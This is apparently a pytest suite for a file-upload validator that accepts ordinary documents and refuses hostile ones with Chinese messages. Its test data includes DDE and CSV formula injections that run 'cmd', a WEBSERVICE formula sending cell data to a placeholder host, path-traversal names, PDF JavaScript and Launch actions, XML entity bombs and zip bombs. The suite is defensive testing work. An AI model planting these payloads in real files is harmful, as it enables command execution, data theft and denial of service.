"""Files in: by name and content, or a Chinese answer that says what to do."""

import io
import zipfile
import zlib

import docx
import pytest
from openpyxl import Workbook
from PIL import Image

from jiyue.common import archives, pdfs, uploads
from jiyue.common.refusals import Refusal
from jiyue.common.sandbox import run_limited


def picture(kind="PNG", size=(40, 30), **options):
    out = io.BytesIO()
    Image.new("RGB", size, "red").save(out, kind, **options)
    return out.getvalue()


def word(**parts):
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("通知")
    document.save(out)
    if parts:
        with zipfile.ZipFile(out, "a") as archive:
            for name, content in parts.items():
                archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def sheet():
    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction [3 0 R /Fit]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


@pytest.mark.parametrize(
    ("name", "data", "extension"),
    [
        ("通知.docx", word(), "docx"),
        ("附件 1.XLSX", sheet(), "xlsx"),
        ("文件.pdf", PDF, "pdf"),
        ("图.jpeg", picture("JPEG"), "jpg"),
        ("图.png", picture(), "png"),
        ("图.gif", picture("GIF"), "gif"),
        ("图.webp", picture("WEBP"), "webp"),
        ("名单.csv", "姓名,单位\n甲,乙".encode("gb18030"), "csv"),
        ("说明.txt", "说明".encode(), "txt"),
    ],
)
def test_an_allowed_file_is_taken_stored_under_its_hash_and_found_again(name, data, extension):
    checked = uploads.check(name, data)
    uploads.store(checked)
    uploads.store(checked)
    path = uploads.path_of(checked.sha256, checked.extension)
    assert checked.extension == extension
    assert path.read_bytes() == checked.data
    assert path.name == f"{checked.sha256}.{extension}"


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("空.txt", b"", "空文件"),
        ("图.svg", b"<svg/>", "夹带脚本"),
        ("页.html", b"<p>", "夹带脚本"),
        ("宏.docm", word(), "宏"),
        ("旧.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "不支持的文件类型"),
        ("旧.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600, "旧版格式"),
        ("坏.docx", b"PK\x03\x04 broken", "损坏"),
        ("断.docx", word()[:2000], "损坏"),
        ("宏.docx", word(**{"word__vbaProject.bin": b"x"}), "宏"),
        ("控件.docx", word(word__activeX__activeX1=b"x"), "可执行"),
        ("路径.docx", word(**{"..__..__etc__passwd": b"x"}), "路径"),
        ("绝对.docx", word(__etc__passwd=b"x"), "路径"),
        ("错.xlsx", word(), "扩展名不符"),
        ("错.png", picture("GIF"), "扩展名不符"),
        ("假.gif", b"GIF89a<script>alert(1)</script>", "图片损坏"),
        ("假.png", b"<html>", "图片损坏"),
        ("假.pdf", b"hello", "不是完整的 PDF"),
        ("脚本.pdf", PDF.replace(b"/Type", b"/J#61vaScript(app.alert(1))/Type"), "脚本"),
        ("启动.pdf", PDF.replace(b"/Type", b"/AA<</S/Launch>>/Type"), "启动程序"),
        ("动作.pdf", PDF.replace(b"[3 0 R /Fit]", b"<</S/URI/URI(http://x)>>"), "自动执行"),
        ("加密.pdf", PDF.replace(b"/Root", b"/Encrypt 9 0 R/Root"), "已加密"),
        ("网页.txt", b"<!DOCTYPE html><script>1</script>", "不是纯文本"),
        ("二进制.txt", b"\x00\xff\xfe\x00", "不是"),
        ("无扩展名", b"x", "没有扩展名"),
    ],
)
def test_a_hostile_or_broken_file_is_refused_with_a_cure(name, data, words):
    with pytest.raises(Refusal, match=words) as refused:
        uploads.check(name, data)
    assert refused.value.cure


def test_xml_with_a_document_type_is_refused():
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    with pytest.raises(Refusal, match="外部实体"):
        archives.check_office(word(**{"word__custom.xml": bomb}))


def test_a_template_from_elsewhere_is_refused():
    relations = (
        b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://x" TargetMode="External"/>'
        b"</Relationships>"
    )
    with pytest.raises(Refusal, match="外部模板"):
        archives.check_office(word(**{"word___rels__settings.xml.rels": relations}))


WORD = '<w:document xmlns:w="http://x"><w:body>{}</w:body></w:document>'
SPLIT = "<w:instrText> DDE</w:instrText><w:t/><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>"
LINKED = '<Relationships><Relationship Type="http://x/{}" Target="http://x/y" TargetMode="External"/></Relationships>'


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word__a.xml", WORD.format(SPLIT)),
        ("word__a.xml", WORD.format('<w:fldSimple w:instr="DDE excel x"/>')),
        ("word__a.xml", WORD.format("<w:instrText>INCLUDETEXT &quot;\\\\\\\\host\\\\x&quot;</w:instrText>")),
        ("word___rels__a.xml.rels", LINKED.format("oleObject")),
        ("word___rels__a.xml.rels", LINKED.format("frame")),
        ("xl__externalLinks___rels__a.xml.rels", LINKED.format("externalLinkPath")),
        ("xl__a.xml", "<externalLink><ddeLink/></externalLink>"),
        ("xl__a.xml", "<sheet><c><f>cmd|'/c calc'!A0</f></c></sheet>"),
        ("xl__a.xml", '<sheet><c><f>_xlfn.WEBSERVICE("http://x/?"&amp;A1)</f></c></sheet>'),
    ],
)
def test_what_reaches_out_when_it_is_opened_is_refused(part, content):
    with pytest.raises(Refusal, match="外部数据链接"):
        archives.check_office(word(**{part: content.encode()}))


@pytest.mark.parametrize(
    ("part", "content"),
    [
        (
            "word__a.xml",
            WORD.format("<w:t>DDE 是一种协议</w:t><w:instrText>HYPERLINK &quot;http://x/DDE &quot;</w:instrText>"),
        ),
        ("word__a.xml", WORD.format("<w:instrText> PAGE </w:instrText>")),
        ("word___rels__a.xml.rels", LINKED.format("hyperlink")),
        ("xl__a.xml", "<sheet><c><f>SUM(A1:A9)*RECALL_RATE</f></c></sheet>"),
    ],
)
def test_links_page_numbers_and_sums_are_no_danger(part, content):
    assert archives.check_office(word(**{part: content.encode()}))[0] == {"kind": "docx"}


@pytest.mark.parametrize(
    ("cell", "where"),
    [
        ("=1+1", "第 2 行第 2 列"),
        ("@SUM(1)", "第 2 行第 2 列"),
        ("  +cmd|'/c calc'!A0", "第 2 行第 2 列"),
        ("＝1", "公式"),
    ],
)
@pytest.mark.parametrize("comma", [",", ";", "\t"])
def test_a_table_that_calculates_is_refused_with_the_place(cell, where, comma):
    with pytest.raises(Refusal, match=where):
        uploads.check("名单.csv", f"姓名{comma}数额\n甲{comma}{cell}".encode())


def test_a_formula_does_not_hide_behind_another_comma():
    with pytest.raises(Refusal, match="公式"):
        uploads.check("名单.csv", "甲;乙;丙;丁\n1;2;3,=1+1;4".encode())


@pytest.mark.parametrize("cell", ["-3", "+3.5", "-1,200.00", "－12", "-", "——", "-8%", "-1.2e-5", "a=b", "13800000000"])
def test_a_table_of_signed_numbers_is_taken(cell):
    assert uploads.check("名单.csv", f"姓名;数额\n甲;{cell}".encode()).extension == "csv"


def test_archive_bombs_are_refused_before_they_are_unpacked():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"0" * 30_000_000)
    with pytest.raises(Refusal, match="压缩炸弹"):
        uploads.check("炸弹.docx", out.getvalue())
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        for number in range(archives.MAX_MEMBERS + 1):
            archive.writestr(f"n{number}", b"")
    with pytest.raises(Refusal, match="条目过多"):
        uploads.check("很多.docx", many.getvalue())


def test_scripts_inside_compressed_object_streams_are_found():
    stream = zlib.compress(b"1 0 <</S /JavaScript /JS (x)>>")
    data = b"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1>>stream\n" + stream + b"\nendstream endobj\n%%EOF"
    with pytest.raises(Refusal, match="脚本"):
        pdfs.check(data)


def test_bytes_of_a_picture_that_look_like_a_name_do_no_harm():
    data = PDF.replace(b"trailer", b"4 0 obj<</Length 4>>stream\n/JS /Launch \nendstream endobj trailer")
    assert pdfs.check(data)[0] == {"kind": "pdf"}


def test_pictures_lose_metadata_and_what_was_appended():
    exif = Image.Exif()
    exif[0x010E] = "secret place"
    checked = uploads.check("照片.jpg", picture("JPEG", exif=exif) + b"<?php evil ?>")
    assert b"secret place" not in checked.data
    assert b"php" not in checked.data
    assert not Image.open(io.BytesIO(checked.data)).getexif()


def test_a_picture_of_too_many_pixels_is_refused_unopened():
    with pytest.raises(Refusal, match="图片过大"):
        uploads.check("大.png", picture(size=(9000, 9000)))


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../etc/通知.txt", "通知.txt"),
        ("C:\\a\\b.txt", "b.txt"),
        ("a\u202etxt.exe", "atxt.exe"),
        ("<x>.txt", "_x_.txt"),
        ("长" * 300 + ".docx", "长" * 115 + ".docx"),
        ("", "未命名"),
    ],
)
def test_names_are_made_fit_for_showing(given, shown):
    assert uploads.clean_name(given) == shown


def test_a_path_is_never_built_from_a_foreign_name():
    with pytest.raises(ValueError, match="not a stored file"):
        uploads.path_of("../../etc/passwd", "txt")


def test_the_child_may_not_take_more_time_or_memory_than_allowed_nor_write_or_run():
    for function in ("spin", "swell", "write", "run"):
        with pytest.raises(Refusal, match="无法读取"):
            run_limited(f"jiyue.common.tests.hostile:{function}", b"", seconds=1, megabytes=256)
    assert run_limited("jiyue.common.tests.hostile:echo", b"abc") == ({"size": 3}, [b"abc", b""])
